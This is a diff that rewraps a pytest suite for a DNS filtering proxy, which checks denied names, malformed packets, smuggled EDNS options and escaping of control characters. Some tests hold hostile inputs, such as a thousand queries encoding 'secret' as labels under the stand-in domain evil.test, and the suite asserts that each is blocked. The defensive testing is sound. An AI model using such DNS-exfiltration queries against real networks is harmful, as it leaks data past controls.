@@ -62,16 +62,24 @@ def test_allowed_name(lab, witness, tcp):
     """DNS-01, DNS-04: a synthetic address, AA=0, RA=1, the question echoed; the same by TCP."""
     with witness.expect_only("api.example.test"):
         (answer,), run = ask(lab, query("api.example.test", edns=EDNS), tcp=tcp)
-    assert (answer.rcode, answer.aa, answer.ra, answer.ident, answer.whole) == (NOERROR, False, True, 0x1234, True), vars(answer)
-    (kind, ttl, data), = answer.answers
+    assert (answer.rcode, answer.aa, answer.ra, answer.ident, answer.whole) == (
+        NOERROR,
+        False,
+        True,
+        0x1234,
+        True,
+    ), vars(answer)
+    ((kind, ttl, data),) = answer.answers
     assert kind == 1 and ipaddress.ip_address(data) in SYNTHETIC4 and 0 < ttl <= 3600
-    assert [r for r in run.audit if r["verdict"] == "allow" and r["name"] == "api.example.test" and r["plugin"] == "dns"], run
+    assert [
+        r for r in run.audit if r["verdict"] == "allow" and r["name"] == "api.example.test" and r["plugin"] == "dns"
+    ], run
 
 
 def test_allowed_name_aaaa(lab, witness):
     """DNS-01 for AAAA: the host has IPv6."""
     (answer,), _ = ask(lab, query("api.example.test", "AAAA"))
-    (kind, _, data), = answer.answers
+    ((kind, _, data),) = answer.answers
     assert kind == 28 and ipaddress.ip_address(data) in ULA
 
 
@@ -83,7 +91,18 @@ def test_control_bare_host_may_ask_anything(lab, witness):
 
 
 @pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
-@pytest.mark.parametrize("name", ["evil.test", "xapi.example.test", "api.example.test.evil.test", "cdn.test", "test", "nowhere.invalid", "localhost.evil.test"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "evil.test",
+        "xapi.example.test",
+        "api.example.test.evil.test",
+        "cdn.test",
+        "test",
+        "nowhere.invalid",
+        "localhost.evil.test",
+    ],
+)
 def test_denied_name(lab, witness, name, tcp):
     """DNS-02, NAM-03."""
     with witness.expect_zero():
@@ -96,7 +115,9 @@ def test_exfiltration_by_labels(lab, witness):
     """DNS-03: a thousand names that carry data; none is heard outside."""
     with witness.expect_zero():
         answers, run = ask(lab, *[query(f"{i:04x}c2VjcmV0.evil.test") for i in range(1000)], timeout=5)
-    assert all(not isinstance(a, str) and a.rcode == NXDOMAIN for a in answers), [a for a in answers if isinstance(a, str)][:3]
+    assert all(not isinstance(a, str) and a.rcode == NXDOMAIN for a in answers), [
+        a for a in answers if isinstance(a, str)
+    ][:3]
     assert sum(r.get("count", 1) for r in run.denials()) == 1000
 
 
@@ -120,12 +141,21 @@ def test_case_is_echoed_to_the_client_and_hidden_from_upstream(lab, witness):
 def test_client_options_do_not_cross(lab, witness):
     """A client subnet, a cookie and an unknown option stay here."""
     secret = b"SECRETPAYLOAD"
-    options = struct.pack("!HH", 65001, len(secret)) + secret + struct.pack("!HH", 10, 8) + b"COOKIE42" + struct.pack("!HHHBB", 8, 7, 1, 24, 0) + b"\x0a\x0b\x0c"
+    options = (
+        struct.pack("!HH", 65001, len(secret))
+        + secret
+        + struct.pack("!HH", 10, 8)
+        + b"COOKIE42"
+        + struct.pack("!HHHBB", 8, 7, 1, 24, 0)
+        + b"\x0a\x0b\x0c"
+    )
     with witness.expect_only("api.example.test") as seen:
         (answer,), _ = ask(lab, query("api.example.test", ident=0xBEEF, edns=(0, 1232, options)))
     assert answer.rcode == NOERROR and answer.answers
     for question in seen.asked:
-        assert secret not in question.raw and b"COOKIE42" not in question.raw and b"\x0a\x0b\x0c" not in question.raw[12:]
+        assert (
+            secret not in question.raw and b"COOKIE42" not in question.raw and b"\x0a\x0b\x0c" not in question.raw[12:]
+        )
 
 
 @pytest.mark.parametrize("name, qtype", [("v4only.example.test", "AAAA"), ("v6only.example.test", "A")])
@@ -141,12 +171,16 @@ def test_allowed_name_that_does_not_exist(lab):
     assert answer.rcode == NXDOMAIN and 15 not in answer.ede
 
 
-@pytest.mark.parametrize("qtype", ["TXT", "NULL", "CNAME", "MX", "SRV", "ANY", "HTTPS", 64, 2, 6, 12, 43, 48, 257, 65280])
+@pytest.mark.parametrize(
+    "qtype", ["TXT", "NULL", "CNAME", "MX", "SRV", "ANY", "HTTPS", 64, 2, 6, 12, 43, 48, 257, 65280]
+)
 def test_other_types(lab, witness, qtype):
     """DNS-09: nothing but A and AAAA goes upstream."""
     with witness.expect_zero():
         (answer,), run = ask(lab, query("mail.example.test", qtype))
-    assert not answer.answers and (answer.rcode == NOERROR or (qtype == "ANY" and answer.rcode in (NOTIMP, REFUSED))), vars(answer)
+    assert not answer.answers and (
+        answer.rcode == NOERROR or (qtype == "ANY" and answer.rcode in (NOTIMP, REFUSED))
+    ), vars(answer)
     assert run.denials(name="mail.example.test", reason="qtype_denied"), run
 
 
@@ -156,7 +190,9 @@ def test_guarded_answers(lab, witness, name, qtype):
     with witness.expect_only(name):
         (answer,), run = ask(lab, query(name, qtype, edns=EDNS))
     assert answer.rcode == NXDOMAIN and not answer.answers and answer.ede == [15], vars(answer)
-    assert run.denials(name=name, reason="answer_forbidden_addr") or run.denials(name=name, reason="guard_metadata"), run
+    assert run.denials(name=name, reason="answer_forbidden_addr") or run.denials(
+        name=name, reason="guard_metadata"
+    ), run
 
 
 def test_guarded_and_good_answer(lab, witness):
@@ -169,7 +205,13 @@ def test_guarded_and_good_answer(lab, witness):
 def test_alias_to_a_name_outside_the_policy(lab, witness):
     """DNS-13: the queried name authorises its chain; no name of the chain becomes allowed."""
     with witness.expect_only("alias.example.test", "x.evil.test", ports=[(world.EVIL4, 443), (world.EVIL6, 443)]):
-        results, run = lab.probe([{"do": "dns", "send": query("alias.example.test")}, {"do": "dns", "send": query("x.evil.test", edns=EDNS)}], policy=P0)
+        results, run = lab.probe(
+            [
+                {"do": "dns", "send": query("alias.example.test")},
+                {"do": "dns", "send": query("x.evil.test", edns=EDNS)},
+            ],
+            policy=P0,
+        )
     first, second = (Answer(r["data"]) for r in results)
     assert first.rcode == NOERROR and [a[0] for a in first.answers][-1] == 1
     assert_policy_denial(second)
@@ -180,7 +222,9 @@ def test_alias_to_a_name_outside_the_policy(lab, witness):
 def test_alias_loops_and_long_chains(lab, witness, name):
     """DNS-14: SERVFAIL within 2 s, at most 16 upstream queries."""
     with witness.watch() as seen:
-        results, run = lab.probe([{"do": "dns", "send": query(name)}, {"do": "dns", "send": query("api.example.test")}], policy=P0)
+        results, run = lab.probe(
+            [{"do": "dns", "send": query(name)}, {"do": "dns", "send": query("api.example.test")}], policy=P0
+        )
     assert Answer(results[0]["data"]).rcode == SERVFAIL and results[0]["seconds"] < 2, results
     assert Answer(results[1]["data"]).answers, "the worker is alive"
     assert len([q for q in seen.asked if q.name != "api.example.test"]) <= 16
@@ -207,7 +251,9 @@ BROKEN = {
     "one-byte": b"\x12",
     "qdcount-0": bytes.fromhex("123401000000000000000000"),
     "qdcount-2": bytes.fromhex("123401000002000000000000") + b"\3api\7example\4test\0\0\1\0\1" * 2,
-    "ancount-1": bytes.fromhex("123401000001000100000000") + b"\3api\7example\4test\0\0\1\0\1" + b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4\1\2\3\4",
+    "ancount-1": bytes.fromhex("123401000001000100000000")
+    + b"\3api\7example\4test\0\0\1\0\1"
+    + b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4\1\2\3\4",
     "trailing-bytes": bytes.fromhex(query("api.example.test", tail=b"SECRET")),
     "two-opt": bytes.fromhex(query("api.example.test", edns=[EDNS, EDNS])),
     "opt-counted-not-there": bytes.fromhex(query("api.example.test", counts=(1, 0, 0, 1))),
@@ -219,7 +265,10 @@ BROKEN = {
 def test_malformed_queries(lab, witness, kind):
     """DNS-15, DNS-16, DNS-19, DNS-22: FORMERR or silence, nothing upstream, and the worker is alive afterwards."""
     with witness.expect_only("pkg.test"):
-        results, run = lab.probe([{"do": "dns", "send": BROKEN[kind].hex(), "timeout": 0.5}, {"do": "dns", "send": query("pkg.test")}], policy=P0)
+        results, run = lab.probe(
+            [{"do": "dns", "send": BROKEN[kind].hex(), "timeout": 0.5}, {"do": "dns", "send": query("pkg.test")}],
+            policy=P0,
+        )
     if kind in ("header-cut", "one-byte", "response-bit"):  # not to be answered at all
         assert results[0].get("error") in ("TimeoutError", "ECONNREFUSED"), results
     else:
@@ -236,15 +285,19 @@ def test_name_of_exactly_255_octets(lab, witness):
     assert answer.rcode == NXDOMAIN
 
 
-@pytest.mark.parametrize("label", [b"\0", b"a.b", b"\x80", b"\xff\xfe", b"a\r\nb", b"api.example", b"a b", b"\"", b"\x1b[31m"], ids=repr)
+@pytest.mark.parametrize(
+    "label", [b"\0", b"a.b", b"\x80", b"\xff\xfe", b"a\r\nb", b"api.example", b"a b", b'"', b"\x1b[31m"], ids=repr
+)
 def test_strange_octets_in_labels(lab, witness, label):
     """DNS-17: never matched as text; LOG-01: the audit escapes them."""
     wire = bytes([len(label)]) + label + b"\3cdn\4test\0"
     with witness.expect_zero():
         (answer,), run = ask(lab, query(None, wire=wire, edns=EDNS))
     assert answer.rcode == NXDOMAIN, vars(answer)
-    denial, = run.denials(reason="name_malformed")
-    assert "cdn" in json.dumps(denial["raw"]) and not set(denial["raw"]) & set(map(chr, [*range(32), *range(127, 256)])), denial
+    (denial,) = run.denials(reason="name_malformed")
+    assert "cdn" in json.dumps(denial["raw"]) and not set(denial["raw"]) & set(
+        map(chr, [*range(32), *range(127, 256)])
+    ), denial
 
 
 @pytest.mark.parametrize("name", ["_dns.cdn.test", "a_b.cdn.test"])
@@ -263,7 +316,16 @@ def test_other_opcodes(lab, witness, opcode, tcp):
     assert answer.rcode == NOTIMP
 
 
-@pytest.mark.parametrize("name, qtype, qclass", [("version.bind", "TXT", 3), ("hostname.bind", "TXT", 3), ("api.example.test", "A", 255), ("api.example.test", "A", 4), ("api.example.test", "A", 0)])
+@pytest.mark.parametrize(
+    "name, qtype, qclass",
+    [
+        ("version.bind", "TXT", 3),
+        ("hostname.bind", "TXT", 3),
+        ("api.example.test", "A", 255),
+        ("api.example.test", "A", 4),
+        ("api.example.test", "A", 0),
+    ],
+)
 def test_other_classes(lab, witness, name, qtype, qclass):
     """DNS-21: REFUSED, no version text."""
     with witness.expect_zero():
@@ -291,12 +353,25 @@ def test_many_addresses_become_one(lab):
     assert answer.rcode == NOERROR and len(answer.answers) == 1
 
 
-@pytest.mark.parametrize("name", ["wrongid", "wrongname", "wrongtype", "notreply", "foreign", "short", "counts", "pointerloop"])
+@pytest.mark.parametrize(
+    "name", ["wrongid", "wrongname", "wrongtype", "notreply", "foreign", "short", "counts", "pointerloop"]
+)
 def test_wrong_replies_from_upstream(lab, witness, name):
     """DNS-29 and its class: a reply to another question is not an answer; the right one, if it comes, is used."""
     with witness.expect_only(f"{name}.scripted.test", ports=[(world.GOOD4, 80)]):
-        results, run = lab.probe([{"do": "tcp", "to": [f"{name}.scripted.test", 80], "family": 4, "read": 4, "timeout": 6,
-                                   "send": f"GET /whoami HTTP/1.0\r\nHost: {name}.scripted.test\r\n\r\n".encode().hex()}], policy=P0)
+        results, run = lab.probe(
+            [
+                {
+                    "do": "tcp",
+                    "to": [f"{name}.scripted.test", 80],
+                    "family": 4,
+                    "read": 4,
+                    "timeout": 6,
+                    "send": f"GET /whoami HTTP/1.0\r\nHost: {name}.scripted.test\r\n\r\n".encode().hex(),
+                }
+            ],
+            policy=P0,
+        )
     if name in ("wrongid", "wrongname", "wrongtype", "notreply"):  # the right reply follows 100 ms later
         assert bytes.fromhex(results[0]["data"]).startswith(b"HTTP"), (results, run)
     else:
@@ -305,17 +380,26 @@ def test_wrong_replies_from_upstream(lab, witness, name):
 
 def test_extra_records_are_dropped(lab, witness):
     """DNS-29: an A for pkg.test and NS records beside the answer change nothing."""
-    with witness.expect_only("extra.scripted.test", "pkg.test", ports=[(world.PKG4, 80), (world.PKG6, 80), (world.GOOD4, 80)]):
-        run = lab.run("sh", "-c", "curl -4 -sS http://extra.scripted.test/whoami; curl -4 -sS http://pkg.test/whoami", policy=P0)
+    with witness.expect_only(
+        "extra.scripted.test", "pkg.test", ports=[(world.PKG4, 80), (world.PKG6, 80), (world.GOOD4, 80)]
+    ):
+        run = lab.run(
+            "sh", "-c", "curl -4 -sS http://extra.scripted.test/whoami; curl -4 -sS http://pkg.test/whoami", policy=P0
+        )
     assert f"addr={world.GOOD4}" in run.text and "host=pkg.test" in run.text and world.EVIL4 not in run.text, run
 
 
 def test_silent_upstream(lab, witness):
     """DNS-35: SERVFAIL with EDE 22 or 23 by 5 s, retries bounded."""
     with witness.expect_only("silent.scripted.test") as seen:
-        results, run = lab.probe([{"do": "dns", "send": query("silent.scripted.test", edns=EDNS), "timeout": 8}], policy=P0)
+        results, run = lab.probe(
+            [{"do": "dns", "send": query("silent.scripted.test", edns=EDNS), "timeout": 8}], policy=P0
+        )
     answer = Answer(results[0]["data"])
-    assert answer.rcode == SERVFAIL and set(answer.ede) & {22, 23} and results[0]["seconds"] <= 5.2, (results, vars(answer))
+    assert answer.rcode == SERVFAIL and set(answer.ede) & {22, 23} and results[0]["seconds"] <= 5.2, (
+        results,
+        vars(answer),
+    )
     assert len(seen.asked) <= 6
     assert [r for r in run.audit if r["name"] == "silent.scripted.test" and r["reason"] == "upstream_failed"], run
 
@@ -334,7 +418,9 @@ def test_upstream_fails(lab, name):
 
 def test_no_resolver_at_all(lab, witness):
     """Upstream nobody listens to: SERVFAIL within 5 s, and nothing else is asked."""
-    results, run = lab.probe([{"do": "dns", "send": query("api.example.test"), "timeout": 8}], policy=P0, resolver=world.BLACKHOLE4)
+    results, run = lab.probe(
+        [{"do": "dns", "send": query("api.example.test"), "timeout": 8}], policy=P0, resolver=world.BLACKHOLE4
+    )
     assert Answer(results[0]["data"]).rcode == SERVFAIL and results[0]["seconds"] <= 5.2
 
 
@@ -343,8 +429,13 @@ def test_no_resolver_at_all(lab, witness):
 def test_any_server_on_port_53_is_ours(lab, witness, server, tcp):
     """CEL-03: another resolver is asked, our policy answers; the reply comes from the address that was asked."""
     with witness.expect_only("api.example.test"):
-        results, run = lab.probe([{"do": "dns", "to": [server, 53], "send": query("api.example.test"), "tcp": tcp},
-                                  {"do": "dns", "to": [server, 53], "send": query("evil.test"), "tcp": tcp}], policy=P0)
+        results, run = lab.probe(
+            [
+                {"do": "dns", "to": [server, 53], "send": query("api.example.test"), "tcp": tcp},
+                {"do": "dns", "to": [server, 53], "send": query("evil.test"), "tcp": tcp},
+            ],
+            policy=P0,
+        )
     assert Answer(results[0]["data"]).answers and Answer(results[1]["data"]).rcode == NXDOMAIN, results
 
 
@@ -352,8 +443,19 @@ def test_tcp_pipelining_and_small_writes(lab, witness):
     """Two questions in one write are both answered; one in 1-byte writes is served."""
     framed = bytes.fromhex(query("api.example.test"))
     framed = struct.pack("!H", len(framed)) + framed
-    results, _ = lab.probe([{"do": "dns", "tcp": True, "messages": [query("api.example.test", ident=1), query("evil.test", ident=2)]},
-                            {"do": "tcp", "to": ["8.8.8.8", 53], "pieces": [framed[i:i + 1].hex() for i in range(len(framed))], "pause": 0.001, "read": 40}], policy=P0)
+    results, _ = lab.probe(
+        [
+            {"do": "dns", "tcp": True, "messages": [query("api.example.test", ident=1), query("evil.test", ident=2)]},
+            {
+                "do": "tcp",
+                "to": ["8.8.8.8", 53],
+                "pieces": [framed[i : i + 1].hex() for i in range(len(framed))],
+                "pause": 0.001,
+                "read": 40,
+            },
+        ],
+        policy=P0,
+    )
     assert {Answer(a).ident for a in results[0]["answers"]} == {1, 2}
     assert Answer(bytes.fromhex(results[1]["data"])[2:]).answers
 
